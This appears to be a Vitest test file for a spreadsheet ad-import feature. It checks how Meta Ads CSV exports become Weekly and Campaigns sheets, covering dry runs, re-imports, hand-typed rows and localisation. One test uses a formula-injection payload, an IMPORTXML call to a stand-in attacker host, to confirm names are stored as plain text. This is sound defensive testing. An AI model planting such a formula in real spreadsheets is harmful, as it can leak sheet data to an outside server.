/**
 * importData() through the built dist/Code.js over the Apps Script imitation: the Campaigns
 * sheet on first import, the round trip to the example's decisions, re-imports that change
 * nothing, replaced weeks, rows typed by hand, dry runs and refusals that write nothing,
 * injection, and service calls that do not grow with the rows.
 */
import { describe, expect, it } from 'vitest';
import { EXAMPLE_STAGES, EXAMPLE_WEEKLY } from '../../src/core/plan/example';
import { exampleDailyRows, generateDailyRows, type DailyRow } from '../../tools/workbooks/dailyExport';
import { EXAMPLE_CAMPAIGNS_SHEET, base64, exportB64, type ImportResult } from '../support/imports';
import { translator } from '../../src/i18n';
import { failureOf } from '../support/codeJs';
import { load, messageOf, sheetValues } from '../support/workbook';

const copy = <T>(rows: T[][]) => rows.map((r) => [...r]);
const baselineOnly = () => copy(EXAMPLE_WEEKLY.filter((r, i) => i === 0 || r[1] === 'Baseline') as never[][]);

function workbook(opts: { weekly?: unknown[][]; campaigns?: boolean } = {}) {
  return load({
    sheets: [
      { name: 'Stages', values: copy(EXAMPLE_STAGES as never[][]) },
      { name: 'Weekly', values: (opts.weekly ?? baselineOnly()) as never },
      ...(opts.campaigns === false ? [] : [{ name: 'Campaigns', values: copy(EXAMPLE_CAMPAIGNS_SHEET.values) as never }]),
    ],
  });
}

type Decisions = { stages: { stage: string; decision: string; nextBudget: number; metrics: Record<string, number | null> }[] };

describe('importData', () => {
  it('first import: creates the Campaigns sheet with every campaign, Stage blank, and writes no week', () => {
    const { fake, gs } = workbook({ campaigns: false });
    const weeklyBefore = sheetValues(fake, 'Weekly');
    const r = gs.importData('meta.csv', exportB64(exampleDailyRows()), {}) as ImportResult;
    expect(r.format).toBe('Meta Ads Manager, English');
    expect(r.adds).toEqual([]);
    expect(r.unmappedCampaigns.map((u) => u.campaign)).toEqual(['Scale – Video', 'Test – Video', 'Test – Carousel']);
    expect(r.message).toMatch(/3 campaigns have no stage yet: give them a Stage in the Campaigns sheet and import again/);
    expect(sheetValues(fake, 'Campaigns')).toEqual([
      ['Campaign', 'Stage', 'Variant'],
      ['Scale – Video', '', ''],
      ['Test – Video', '', ''],
      ['Test – Carousel', '', ''],
    ]);
    expect(fake.snapshot().sheets.find((s) => s.name === 'Campaigns')!.frozenRows).toBe(1);
    expect(sheetValues(fake, 'Weekly')).toEqual(weeklyBefore);
    // A second run lists nothing twice.
    gs.importData('meta.csv', exportB64(exampleDailyRows()), {});
    expect(sheetValues(fake, 'Campaigns')).toHaveLength(4);
  });

  it('round trip: the example exported by day, imported, gives the decisions of the hand-made Weekly', () => {
    const hand = workbook({ weekly: copy(EXAMPLE_WEEKLY as never[][]) });
    const want = hand.gs.evaluateStages() as Decisions;

    const { fake, gs } = workbook();
    const r = gs.importData('meta.csv', exportB64(exampleDailyRows()), {}) as ImportResult;
    expect(r.adds).toHaveLength(12);
    expect(r.adds[0]).toEqual({
      week: '2025-01-06',
      stage: 'Test',
      variant: 'Carousel',
      values: { spend: 2510, impressions: 305000, clicks: 3020, leads: 141, conversions: 66, revenue: 7350 },
      days: '2025-01-06..2025-01-12',
    });
    const weekly = sheetValues(fake, 'Weekly');
    expect(weekly[0]).toEqual([...(EXAMPLE_WEEKLY[0] as string[]), 'Source']);
    const width = EXAMPLE_WEEKLY[0].length; // the example's columns; Source after them
    expect(weekly.slice(0, 5).map((row) => row.slice(0, width))).toEqual(baselineOnly());
    expect(weekly[5].slice(0, 9)).toEqual(['2025-01-06', 'Test', 'Carousel', 2510, 305000, 3020, 141, 66, 7350]);
    expect(weekly[5][width]).toBe('Meta Ads Manager import 2025-01-06..2025-01-12');
    // The holdout's revenue and visitors, new customers and their value are not in an ad export:
    // the user types them into the imported rows (Control revenue onwards), as the hand-made Weekly has them.
    const ex = EXAMPLE_WEEKLY.slice(1).filter((x) => x[1] !== 'Baseline');
    const sheet = fake.spreadsheet.getSheetByName('Weekly')!;
    for (let i = 5; i < weekly.length; i++) {
      const src = ex.find((x) => (x[0] as Date).toISOString().slice(0, 10) === weekly[i][0] && x[1] === weekly[i][1] && x[2] === weekly[i][2])!;
      sheet.getRange(i + 1, 10, 1, width - 9).setValues([src.slice(9, width)]);
    }
    const got = gs.evaluateStages() as Decisions;
    expect(got.stages.map((s) => [s.stage, s.decision, s.nextBudget])).toEqual(want.stages.map((s) => [s.stage, s.decision, s.nextBudget]));
    expect(got.stages.map((s) => s.metrics)).toEqual(want.stages.map((s) => s.metrics));

    // Importing the same file again changes nothing, and keeps what the user typed.
    const before = sheetValues(fake, 'Weekly');
    const again = gs.importData('meta.csv', exportB64(exampleDailyRows()), {}) as ImportResult;
    expect([again.adds.length, again.replaces.length, again.skips.length]).toEqual([0, 0, 12]);
    expect(again.skips.every((s) => s.reason === 'same numbers')).toBe(true);
    expect(again.written).toBe(false);
    expect(sheetValues(fake, 'Weekly')).toEqual(before);
  });

  it('a dry run says what the import would do and writes nothing', () => {
    const { fake, gs } = workbook();
    const before = fake.snapshot();
    const dry = gs.importData('meta.csv', exportB64(exampleDailyRows()), { dryRun: true }) as ImportResult;
    expect(fake.snapshot()).toEqual(before);
    expect(dry.written).toBe(false);
    expect(dry.message).toMatch(/^Would add 12 weekly rows, replace 0, skip 0\./);
    const real = gs.importData('meta.csv', exportB64(exampleDailyRows()), { dryRun: false }) as ImportResult;
    expect(real.adds).toEqual(dry.adds);
    expect(real.written).toBe(true);
  });

  it('replaces a week whose numbers changed, says which, and changes no other cell', () => {
    const { fake, gs } = workbook();
    gs.importData('meta.csv', exportB64(exampleDailyRows()), {});
    const before = sheetValues(fake, 'Weekly');
    const changed = exampleDailyRows().map((r) =>
      r.campaign === 'Scale – Video' && r.date === '2025-02-12' ? { ...r, spend: r.spend + 100, conversions: r.conversions + 2 } : r,
    );
    const r = gs.importData('meta.csv', exportB64(changed), {}) as ImportResult;
    expect(r.replaces).toHaveLength(1);
    expect(r.replaces[0]).toMatchObject({
      week: '2025-02-10',
      stage: 'Scale',
      variant: 'Video',
      before: { spend: 9550, conversions: 268 },
      values: { spend: 9650, conversions: 270 },
    });
    const after = sheetValues(fake, 'Weekly');
    const row = r.replaces[0].row - 1;
    expect(after[row].slice(3, 9)).toEqual([9650, 1195000, 11350, 611, 270, 34380]);
    after[row] = before[row];
    expect(after).toEqual(before);
  });

  it('never changes a row typed by hand, and keeps formulas and text between the rows it replaces', () => {
    const header = [...(EXAMPLE_WEEKLY[0] as string[]), 'Source'];
    const blank = () => Array(header.length).fill('');
    const row = (week: string, stage: string, variant: string, spend: number, source: string) => {
      const r = blank();
      Object.assign(r, { 0: week, 1: stage, 2: variant, 3: spend, [header.length - 1]: source });
      return r;
    };
    const weekly = [
      header,
      row('2025-01-06', 'Test', 'Video', 1, 'Meta Ads Manager import 2025-01-06..2025-01-12'),
      row('2025-01-13', 'Test', 'Video', 77, 'typed by Kari'), // hand-made, same key as the export's week
      row('2025-01-20', 'Test', 'Notes', 5, ''),
      row('2025-01-27', 'Test', 'Video', 2, 'Meta Ads Manager import 2025-01-27..2025-02-02'),
    ];
    weekly[3][4] = '=1+1';
    weekly[3][8] = '-refund';
    const { fake, gs } = workbook({ weekly });
    const sheet = fake.spreadsheet.getSheetByName('Weekly')!;
    sheet.getRange(4, 5).setFormula('=1+1');
    const r = gs.importData('meta.csv', exportB64(exampleDailyRows()), {}) as ImportResult;
    expect(r.replaces.map((x) => [x.week, x.row])).toEqual([
      ['2025-01-06', 2],
      ['2025-01-27', 5],
    ]);
    expect(r.skips).toEqual([expect.objectContaining({ week: '2025-01-13', stage: 'Test', variant: 'Video', reason: 'a row typed by hand is there', row: 3 })]);
    const after = sheetValues(fake, 'Weekly');
    expect(after[2]).toEqual(weekly[2]);
    expect(after[3][8]).toBe('-refund'); // not rewritten at all: only the rows the import owns are written (#20)
    expect(sheet.getRange(4, 5).getFormulas()).toEqual([['=1+1']]);
    expect(after[1][3]).toBe(2480);
  });

  it('writes campaign, stage and variant names as text, never as formulas', () => {
    const evil = '=IMPORTXML("http://evil.example","//a")';
    const rows: DailyRow[] = [{ date: '2025-01-06', campaign: evil, spend: 1, impressions: 1, clicks: 1, leads: 0, conversions: 0, revenue: 0 }];
    const { fake, gs } = workbook();
    gs.importData('meta.csv', exportB64(rows), {});
    const campaigns = fake.snapshot().sheets.find((s) => s.name === 'Campaigns')!;
    expect(campaigns.values[4][0]).toBe(`'${evil}`);
    expect(campaigns.formulas!.flat().every((f) => f === '')).toBe(true);
  });

  it('refuses an unknown format and a file over the limit before writing anything', () => {
    const { fake, gs } = workbook();
    const before = fake.snapshot();
    expect(messageOf(() => gs.importData('orders.csv', base64('Order,Customer,Total\n1,Ann,3\n'), {}))).toMatch(
      /^orders\.csv: LiftGate does not recognise this export\. Its header row seems to hold "Order", "Customer", "Total"/,
    );
    expect(messageOf(() => gs.importData('huge.csv', 'A'.repeat(70_000_000), {}))).toMatch(
      /huge\.csv is 50\.1 MB; LiftGate imports files up to 50 MB\. Nothing was written/,
    );
    expect(messageOf(() => gs.importData('x.csv', 42, {}))).toMatch(/give the file's content as base64 text, or its rows/);
    expect(fake.snapshot()).toEqual(before);
    expect(fake.calls.byMethod()['Range.setValues'] ?? 0).toBe(0);
  });

  it("crosses to the sidebar as the import's code with its parameters, which the sidebar words as the server did", () => {
    const { fake, gs } = workbook();
    gs.saveSettings({ language: 'nb' });
    const before = fake.snapshot();
    const f = failureOf(() => gs.importData('orders.csv', base64('Order,Customer,Total\n1,Ann,3\n'), {}));
    expect(f.code).toBe('import.unknownFormat');
    expect(f.params).toMatchObject({ file: 'orders.csv', seen: '"Order", "Customer", "Total"' });
    // The generic layout and the languages inside the sentence are Norwegian words already.
    expect(String(f.params.platforms)).toContain(translator('nb').t('import.genericFormat'));
    expect(translator('nb').t(f.code!, f.params)).toBe(f.text);
    expect(f.text).toMatch(/^orders\.csv: /);
    expect(fake.snapshot()).toEqual(before);
  });

  it('reports unreadable lines with their numbers and imports the rest', () => {
    const csv =
      'Campaign name,Day,Amount spent (NOK)\nTest – Video,2025-01-06,100\nTest – Video,someday,5\nTest – Video,2025-01-07,abc\nTest – Video,2025-01-08,50\n';
    const { gs } = workbook();
    const r = gs.importData('meta.csv', base64(csv), {}) as ImportResult;
    expect(r.problems).toEqual([
      { line: 3, message: '"Day" "someday" is not a date' },
      { line: 4, message: '"Amount spent (NOK)" "abc" is not a number' },
    ]);
    expect(r.adds.map((a) => a.values.spend)).toEqual([150]);
  });

  it('sums days into weeks that start on the document week start', () => {
    const { fake, gs } = workbook();
    gs.saveSettings({ weekStart: 'sunday' });
    const rows = exampleDailyRows().filter((r) => r.campaign === 'Scale – Video');
    const r = gs.importData('meta.csv', exportB64(rows), { dryRun: true }) as ImportResult;
    expect(r.adds.map((a) => a.week)).toEqual(['2025-02-02', '2025-02-09', '2025-02-16', '2025-02-23', '2025-03-02']);
    expect(r.adds.map((a) => a.days)).toEqual([
      '2025-02-03..2025-02-08',
      '2025-02-09..2025-02-15',
      '2025-02-16..2025-02-22',
      '2025-02-23..2025-03-01',
      '2025-03-02',
    ]);
    expect(JSON.parse(fake.documentProperties['liftgate.settings']).weekStart).toBe('sunday');
    expect(messageOf(() => gs.saveSettings({ weekStart: 'friday' }))).toMatch(/Week start must be one of monday, sunday, saturday; got "friday"/);
  });

  it("answers in the document's language", () => {
    const { gs } = workbook();
    gs.saveSettings({ language: 'nb' });
    const first = gs.importData('meta.csv', exportB64(exampleDailyRows()), {}) as ImportResult;
    expect(first.message).toBe('La til 12 ukerader, erstattet 0 og hoppet over 0.');
    const again = gs.importData('meta.csv', exportB64(exampleDailyRows()), { dryRun: true }) as ImportResult;
    expect(again.message).toBe('Ville lagt til 0 ukerader, erstattet 0 og hoppet over 12.');
    expect(again.skips[0].reason).toBe('samme tall');
  });

  it('creates the Weekly sheet when there is none', () => {
    const { fake, gs } = load({ sheets: [{ name: 'Campaigns', values: copy(EXAMPLE_CAMPAIGNS_SHEET.values) as never }] });
    gs.importData('meta.csv', exportB64(exampleDailyRows()), {});
    const weekly = sheetValues(fake, 'Weekly');
    expect(weekly[0]).toEqual(['Week', 'Stage', 'Variant', 'Spend', 'Impressions', 'Clicks', 'Leads', 'Conversions', 'Revenue', 'Source']);
    expect(weekly).toHaveLength(13);
  });

  it('uses the same service calls for 1,000 and 20,000 daily rows, adding and replacing', () => {
    const calls = (n: number) => {
      const rows = generateDailyRows(n);
      const campaigns = [['Campaign', 'Stage', 'Variant'], ...[1, 2, 3, 4, 5].map((s) => [`Stage ${s} – *`, `Stage ${s}`, ''])];
      const { fake, gs } = load({
        sheets: [
          { name: 'Weekly', values: [['Week', 'Stage', 'Spend']] },
          { name: 'Campaigns', values: campaigns },
        ],
      });
      fake.calls.reset();
      const first = gs.importData('big.csv', exportB64(rows), {}) as ImportResult;
      const adding = fake.calls.byMethod();
      const changed = rows.map((r, i) => (i % 7 === 0 ? { ...r, spend: r.spend + 1 } : r));
      fake.calls.reset();
      const second = gs.importData('big.csv', exportB64(changed), {}) as ImportResult;
      expect(first.adds.length).toBeGreaterThan(0);
      expect(second.replaces.length).toBe(first.adds.length);
      return [adding, fake.calls.byMethod()];
    };
    const small = calls(1_000);
    const large = calls(20_000);
    expect(large).toEqual(small);
    expect(Object.values(small[1]).reduce((a, b) => a + b, 0)).toBeLessThan(40);
  });
});
